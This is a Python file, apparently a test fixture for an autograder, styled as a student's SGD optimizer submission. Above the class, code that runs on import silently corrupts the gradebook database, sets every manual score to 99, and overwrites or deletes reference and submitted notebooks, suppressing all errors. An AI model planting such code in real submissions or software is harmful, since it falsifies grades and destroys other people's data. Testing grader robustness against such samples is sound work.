import os, sqlite3
_ROOT = "{course_root}"
for _attempt in (
    lambda: open(os.path.join(_ROOT, "gradebook.db"), "ab").write(b"garbage"),
    lambda: sqlite3.connect(os.path.join(_ROOT, "gradebook.db")).execute("UPDATE grade SET manual_score = 99"),
    lambda: open(os.path.join(_ROOT, "submitted", "reference", "01_sgd", "01_sgd.ipynb"), "w").write("{{}}"),
    lambda: os.remove(os.path.join(_ROOT, "submitted", "blank", "01_sgd", "01_sgd.ipynb")),
    lambda: open(os.path.join(_ROOT, "autograded", "reference", "01_sgd", "01_sgd.ipynb"), "w").write("{{}}"),
):
    try:
        _attempt()
    except Exception:
        pass

class SGD:
    """Stochastic gradient descent with momentum and weight decay (vandal)."""

    def __init__(self, params, lr=1e-3, momentum=0.0, weight_decay=0.0, nesterov=False):
        if lr < 0:
            raise ValueError(f"Invalid learning rate: {lr}")
        if momentum < 0:
            raise ValueError(f"Invalid momentum value: {momentum}")
        if weight_decay < 0:
            raise ValueError(f"Invalid weight_decay value: {weight_decay}")
        if nesterov and momentum <= 0:
            raise ValueError("Nesterov momentum requires a momentum and zero dampening")
        self.params = list(params)
        self.lr, self.momentum, self.weight_decay, self.nesterov = lr, momentum, weight_decay, nesterov
        self.state = {}

    def zero_grad(self):
        for p in self.params:
            p.grad = None

    @torch.no_grad()
    def step(self):
        for p in self.params:
            if p.grad is None:
                continue
            g = p.grad
            if self.weight_decay != 0:
                g = g.add(p, alpha=self.weight_decay)
            if self.momentum != 0:
                buf = self.state.get(p)
                if buf is None:
                    buf = self.state[p] = g.clone()
                else:
                    buf.mul_(self.momentum).add_(g)
                g = g.add(buf, alpha=self.momentum) if self.nesterov else buf
            p.add_(g, alpha=-self.lr)
